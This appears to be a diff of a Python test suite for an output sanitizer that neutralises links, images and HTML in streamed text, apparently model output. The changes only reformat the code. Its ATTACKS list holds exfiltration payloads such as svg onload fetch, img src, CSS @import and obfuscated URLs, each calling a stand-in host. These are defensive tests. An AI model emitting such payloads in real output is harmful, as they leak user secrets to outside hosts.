@@ -38,10 +38,10 @@ ATTACKS = [
     f"mailto:{SECRET}@{SECRET}.example?body={SECRET}",
     f"<img src='http://{SECRET}.example/c.png'>",
     f'<img alt=">" src="//{SECRET}.example/c.png">',
-    f"<a href=\"http://{SECRET}.example\" onclick=\"fetch('//{SECRET}')\">",
+    f'<a href="http://{SECRET}.example" onclick="fetch(\'//{SECRET}\')">',
     f"<svg/onload=fetch('//{SECRET}.example')>",
     f"<style>@import 'https://{SECRET}.example/x';</style>",
-    f"<iframe srcdoc=\"&lt;img src=//{SECRET}.example&gt;\">",
+    f'<iframe srcdoc="&lt;img src=//{SECRET}.example&gt;">',
     f"[réf]: https://{SECRET}.example/f\n\nVoir [réf] et ![x][réf]",
     f"[réf]:\n  <https://{SECRET}.example/f>\n[texte][réf]",
     f"&#104;ttps://{SECRET}.example",
@@ -57,7 +57,7 @@ ATTACKS = [
     f"]<b></b>(http://{SECRET}.example)",
     f"&<b></b>#104;ttp://{SECRET}.example",
     f"&am&#8203;p;#104;ttp://{SECRET}.example",
-    f"![x](" + "a" * 600 + f"http://{SECRET}.example)",
+    "![x](" + "a" * 600 + f"http://{SECRET}.example)",
     f"<img {'a ' * 200}src=http://{SECRET}.example>",
 ]
 LEFT_ALONE = [
@@ -135,18 +135,34 @@ def test_what_is_left_reads_well(text: str, expected: str) -> None:
 FRAGMENTS = st.sampled_from(
     [
         *"![]()<>&#;:/\\ .\n\"'w",
-        *("http", "https:", "//", "www.", "javascript:", "data:", "a", "é", "x.fr", "&#104;", "&amp;"),
+        *(
+            "http",
+            "https:",
+            "//",
+            "www.",
+            "javascript:",
+            "data:",
+            "a",
+            "é",
+            "x.fr",
+            "&#104;",
+            "&amp;",
+        ),
         *("&lt;", "&colon;", "<b>", "</b>", "<img src=", "](", "![", "[1]", "\u200b", "mot ", "5"),
     ]
 )
 
 
 @given(data=st.data(), text=st.lists(FRAGMENTS, max_size=40).map("".join))
-def test_any_text_comes_out_inactive_and_the_same_for_any_cut(data: st.DataObject, text: str) -> None:
+def test_any_text_comes_out_inactive_and_the_same_for_any_cut(
+    data: st.DataObject, text: str
+) -> None:
     whole = clean(text)
 
     assert not re.search(r"!\[|\]\(|\]:|<[A-Za-z/!?]", whole)
-    assert not re.search(r"(?<![a-z0-9])https?:\S|[/\\]{2,}[A-Za-z0-9]|(?<![a-z0-9])www\.\w", whole, re.IGNORECASE)
+    assert not re.search(
+        r"(?<![a-z0-9])https?:\S|[/\\]{2,}[A-Za-z0-9]|(?<![a-z0-9])www\.\w", whole, re.IGNORECASE
+    )
     assert streamed(data.draw(cuts_of(text))) == whole
 
 
@@ -157,7 +173,9 @@ def test_cleaning_twice_changes_nothing_more(text: str) -> None:
     assert not re.search(r"!\[|\]\(|<[A-Za-z/!?]", clean(once))
 
 
-@pytest.mark.parametrize("opening", ["![", "[x](", "<img ", "&#", "&a", "https:", "//", "www", "]", "!"])
+@pytest.mark.parametrize(
+    "opening", ["![", "[x](", "<img ", "&#", "&a", "https:", "//", "www", "]", "!"]
+)
 def test_an_opening_without_end_does_not_hold_the_stream(opening: str) -> None:
     sanitizer = OutputSanitizer(placeholder=PLACEHOLDER)
     sent = sanitizer.feed(opening)
